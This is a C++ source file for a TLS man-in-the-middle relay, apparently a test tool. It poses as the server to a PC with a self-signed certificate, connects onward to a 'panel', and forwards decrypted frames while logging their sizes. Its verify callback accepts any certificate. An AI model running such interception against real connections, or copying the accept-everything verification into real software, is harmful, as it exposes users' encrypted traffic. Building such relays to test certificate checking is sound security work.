// The attacker's man in the middle: takes a PC's TLS connection with a
// certificate of its own, opens its own TLS connection (with its own client
// certificate) to the real panel, and forwards what it decrypts both ways,
// frame by frame (uint32 big-endian length + body), as a relay on the path
// would. It checks nothing and trusts everything.
//
//   zv-tls-relay --listen PORT --panel HOST:PORT
//
// One JSON line per event on standard output: listening, accepted,
// connected, frame (direction, size), closed (which side first, frames and
// bytes each way). Serves one connection after another until killed.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

void say(const std::string& json) {
    std::printf("%s\n", json.c_str());
    std::fflush(stdout);
}

// A P-256 key with a self-signed certificate, made afresh for each run.
bool makeIdentity(SSL_CTX* ctx) {
    EVP_PKEY* key = EVP_EC_gen("P-256");
    X509* cert = X509_new();
    if (key == nullptr || cert == nullptr) return false;
    X509_set_version(cert, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(cert), 1);
    X509_gmtime_adj(X509_getm_notBefore(cert), -3600);
    X509_gmtime_adj(X509_getm_notAfter(cert), 86400);
    X509_set_pubkey(cert, key);
    X509_NAME* name = X509_get_subject_name(cert);
    X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, reinterpret_cast<const unsigned char*>("relay"), -1, -1, 0);
    X509_set_issuer_name(cert, name);
    const bool ok = X509_sign(cert, key, EVP_sha256()) > 0 && SSL_CTX_use_certificate(ctx, cert) == 1 &&
                    SSL_CTX_use_PrivateKey(ctx, key) == 1;
    X509_free(cert);
    EVP_PKEY_free(key);
    return ok;
}

int acceptAny(int, X509_STORE_CTX*) { return 1; }

SSL_CTX* makeContext(bool server) {
    SSL_CTX* ctx = SSL_CTX_new(server ? TLS_server_method() : TLS_client_method());
    SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
    // Ask the PC for its certificate as the panel does; take any.
    SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, acceptAny);
    if (!makeIdentity(ctx)) {
        say(R"({"event":"error","text":"no identity"})");
        std::exit(1);
    }
    return ctx;
}

int connectTo(const std::string& host, int port) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, host.c_str(), &to.sin_addr);
    if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

// Blocking TLS handshake on a blocking socket.
bool handshake(SSL* ssl, bool server) {
    const int result = server ? SSL_accept(ssl) : SSL_connect(ssl);
    return result == 1;
}

// One side of the relay: what was read and not yet forwarded as whole frames.
struct Side {
    const char* name;
    SSL* ssl;
    int fd;
    std::vector<uint8_t> pending;
    uint64_t frames = 0;
    uint64_t bytes = 0;
};

// The sockets are non-blocking once the handshakes are done.
bool writeAll(SSL* ssl, int fd, const uint8_t* data, size_t size) {
    while (size > 0) {
        const int n = SSL_write(ssl, data, static_cast<int>(size));
        if (n <= 0) {
            const int error = SSL_get_error(ssl, n);
            if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ) return false;
            pollfd waiting{fd, static_cast<short>(error == SSL_ERROR_WANT_WRITE ? POLLOUT : POLLIN), 0};
            poll(&waiting, 1, 1000);
            continue;
        }
        data += n;
        size -= static_cast<size_t>(n);
    }
    return true;
}

// Reads what from has and forwards its complete frames to to; false once from is closed.
bool pump(Side& from, Side& to) {
    uint8_t buffer[16384];
    do {
        const int n = SSL_read(from.ssl, buffer, sizeof buffer);
        if (n <= 0) {
            const int error = SSL_get_error(from.ssl, n);
            return error == SSL_ERROR_WANT_READ;  // a record not complete yet (or a ticket only)
        }
        from.pending.insert(from.pending.end(), buffer, buffer + n);
    } while (SSL_pending(from.ssl) > 0);
    while (from.pending.size() >= 4) {
        const uint32_t size = (uint32_t(from.pending[0]) << 24) | (uint32_t(from.pending[1]) << 16) |
                              (uint32_t(from.pending[2]) << 8) | from.pending[3];
        if (from.pending.size() < 4 + size) break;
        if (!writeAll(to.ssl, to.fd, from.pending.data(), 4 + size)) return false;
        ++from.frames;
        from.bytes += 4 + size;
        say(std::string(R"({"event":"frame","from":")") + from.name + R"(","size":)" + std::to_string(size) + "}");
        from.pending.erase(from.pending.begin(), from.pending.begin() + 4 + size);
    }
    return true;
}

void relay(SSL_CTX* serverCtx, SSL_CTX* clientCtx, int pcFd, const std::string& panelHost, int panelPort) {
    SSL* pcSsl = SSL_new(serverCtx);
    SSL_set_fd(pcSsl, pcFd);
    if (!handshake(pcSsl, true)) {
        say(R"({"event":"closed","stage":"pc-handshake"})");
        SSL_free(pcSsl);
        return;
    }
    const int panelFd = connectTo(panelHost, panelPort);
    SSL* panelSsl = panelFd >= 0 ? SSL_new(clientCtx) : nullptr;
    if (panelSsl != nullptr) SSL_set_fd(panelSsl, panelFd);
    if (panelSsl == nullptr || !handshake(panelSsl, false)) {
        say(R"({"event":"closed","stage":"panel-handshake"})");
        if (panelSsl != nullptr) SSL_free(panelSsl);
        if (panelFd >= 0) close(panelFd);
        SSL_free(pcSsl);
        return;
    }
    say(R"({"event":"connected"})");
    fcntl(pcFd, F_SETFL, fcntl(pcFd, F_GETFL) | O_NONBLOCK);
    fcntl(panelFd, F_SETFL, fcntl(panelFd, F_GETFL) | O_NONBLOCK);

    Side pc{"pc", pcSsl, pcFd, {}, 0, 0};
    Side panel{"panel", panelSsl, panelFd, {}, 0, 0};
    const char* closedFirst = "";
    for (;;) {
        pollfd fds[2] = {{pc.fd, POLLIN, 0}, {panel.fd, POLLIN, 0}};
        if (poll(fds, 2, -1) < 0) break;
        if ((fds[0].revents & (POLLIN | POLLHUP | POLLERR)) && !pump(pc, panel)) {
            closedFirst = "pc";
            break;
        }
        if ((fds[1].revents & (POLLIN | POLLHUP | POLLERR)) && !pump(panel, pc)) {
            closedFirst = "panel";
            break;
        }
    }
    say(std::string(R"({"event":"closed","stage":"relaying","first":")") + closedFirst + R"(","framesFromPc":)" +
        std::to_string(pc.frames) + R"(,"framesFromPanel":)" + std::to_string(panel.frames) + R"(,"bytesFromPc":)" +
        std::to_string(pc.bytes) + R"(,"bytesFromPanel":)" + std::to_string(panel.bytes) + "}");
    SSL_shutdown(pcSsl);
    SSL_shutdown(panelSsl);
    SSL_free(pcSsl);
    SSL_free(panelSsl);
    close(panelFd);
}

}  // namespace

int main(int argc, char** argv) {
    int listenPort = 0;
    std::string panel;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (std::strcmp(argv[i], "--listen") == 0) listenPort = std::atoi(argv[i + 1]);
        if (std::strcmp(argv[i], "--panel") == 0) panel = argv[i + 1];
    }
    const size_t colon = panel.rfind(':');
    if (listenPort <= 0 || colon == std::string::npos) {
        std::fprintf(stderr, "usage: zv-tls-relay --listen PORT --panel HOST:PORT\n");
        return 2;
    }
    const std::string panelHost = panel.substr(0, colon);
    const int panelPort = std::atoi(panel.c_str() + colon + 1);

    SSL_CTX* serverCtx = makeContext(true);
    SSL_CTX* clientCtx = makeContext(false);
    const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const int on = 1;
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    sockaddr_in local{};
    local.sin_family = AF_INET;
    local.sin_port = htons(static_cast<uint16_t>(listenPort));
    if (bind(listener, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0 || listen(listener, 8) != 0) {
        say(R"({"event":"error","text":"cannot listen"})");
        return 1;
    }
    say(R"({"event":"listening","port":)" + std::to_string(listenPort) + "}");
    for (;;) {
        sockaddr_in from{};
        socklen_t size = sizeof from;
        const int fd = accept4(listener, reinterpret_cast<sockaddr*>(&from), &size, SOCK_CLOEXEC);
        if (fd < 0) continue;
        char address[INET_ADDRSTRLEN] = {};
        inet_ntop(AF_INET, &from.sin_addr, address, sizeof address);
        say(std::string(R"({"event":"accepted","from":")") + address + "\"}");
        relay(serverCtx, clientCtx, fd, panelHost, panelPort);
        close(fd);
    }
}
